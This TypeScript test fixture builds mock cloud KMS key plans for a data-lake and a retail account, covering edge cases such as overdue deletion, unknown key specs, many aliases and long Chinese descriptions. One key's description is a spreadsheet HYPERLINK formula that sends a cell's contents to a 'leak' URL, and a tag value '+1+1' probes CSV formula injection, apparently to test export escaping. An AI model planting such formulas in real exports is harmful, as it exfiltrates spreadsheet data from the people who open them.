import type { KeyFacts } from "#lib/model/key.ts";
import type { At, KeyPlan } from "./key-plan.ts";

const FORMULA = `=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open me")`;

/** Awkward keys of Data lake and Retail 华东; `account/region` → plans. */
export function specialLakePlans(at: At): Record<string, KeyPlan[]> {
  return {
    "Data lake/cn-hangzhou": [
      key(
        "lake/bronze-raw",
        {
          description: "Raw zone",
          rotation: "on",
          rotationIntervalDays: 365,
          createdAt: at(-900.3),
          lastRotatedAt: at(-170.3),
          nextRotationAt: at(194.7),
          tags: tags("prod", "lake"),
        },
        { versions: 105 },
      ),
      key(
        "audit/trail-seal",
        {
          description: "审计日志签名",
          spec: "sm2",
          protection: "hsm",
          createdAt: at(-1286.7),
          instance: "kst-hzz65aa01b2c3d4e5lake",
          tags: tags("prod", "audit"),
        },
        { sharedWith: ["1203004500067891"] },
      ),
      key("erp/archive-2021", {
        description: "财务归档（只读）",
        state: "disabled",
        rotation: "suspended",
        rotationIntervalDays: 365,
        createdAt: at(-2148.6),
        lastRotatedAt: at(-688.6),
        nextRotationAt: at(-323.6),
        tags: tags("prod", "finance"),
      }),
      key("erp/batch-2019", {
        description: "Batch keys of 2019",
        state: "pending-deletion",
        createdAt: at(-2500.2),
        deletesAt: at(4.9),
        tags: tags("prod", "finance"),
      }),
      key("lake/overdue", {
        description: "Its deletion is late",
        state: "pending-deletion",
        createdAt: at(-800.4),
        deletesAt: at(-1.3),
        tags: tags("dev", "lake"),
      }),
      {
        ...key("lake/quasar-trial", { description: "A spec of tomorrow", spec: "quasar-512", usage: "encrypt-decrypt", createdAt: at(-3.1) }),
        wire: { KeySpec: "Aliyun_QUASAR_512" },
      },
      { ...key("lake/frozen", { description: "A state of tomorrow", state: "frozen-by-risk", createdAt: at(-44.4) }), wire: { KeyState: "FrozenByRisk" } },
      key("lake/hostile-formula", { description: FORMULA, createdAt: at(-12.9), tags: { env: "test", owner: "+1+1" } }),
      {
        label: "many-names",
        facts: {
          aliases: ["alias/lake/gold", "alias/lake/gold/v2", "alias/lake/zz/deep/er/path"],
          description: "One key, three names",
          createdAt: at(-455.5),
          tags: tags("prod", "lake"),
        },
      },
    ],
    "Retail 华东/cn-shanghai": [
      key("crm/customer-pii", {
        description: "客户个人信息加密主密钥",
        spec: "sm4",
        protection: "hsm",
        rotation: "on",
        rotationIntervalDays: 365,
        createdAt: at(-1882.4),
        lastRotatedAt: at(-315.2),
        nextRotationAt: at(49.8),
        deletionProtection: "on",
        instance: "kst-shh65bb90c1d2e3f4ret1",
        tags: tags("prod", "crm"),
      }),
      key("retail/loyalty", {
        description: "会员积分",
        rotation: "on",
        rotationIntervalDays: 90,
        createdAt: at(-992.7),
        lastRotatedAt: at(-74.1),
        nextRotationAt: at(15.9),
        tags: tags("prod", "loyalty"),
      }),
      key("retail/store-import", {
        description: "门店导入密钥，材料已过期",
        origin: "imported",
        createdAt: at(-760.3),
        expiresAt: at(-6.2),
        tags: tags("prod", "store"),
      }),
      key("retail/long-text", {
        description: `季度密钥说明。${"每个季度由安全团队复核一次，复核记录保存在内部系统中。".repeat(12)}`,
        createdAt: at(-150.8),
        tags: tags("prod", "store"),
      }),
    ],
  };
}

function key(name: string, facts: Partial<KeyFacts>, more: Partial<KeyPlan> = {}): KeyPlan {
  return { label: name, facts: { aliases: [`alias/${name}`], ...facts }, ...more };
}

function tags(env: string, owner: string): Record<string, string> {
  return { env, owner };
}
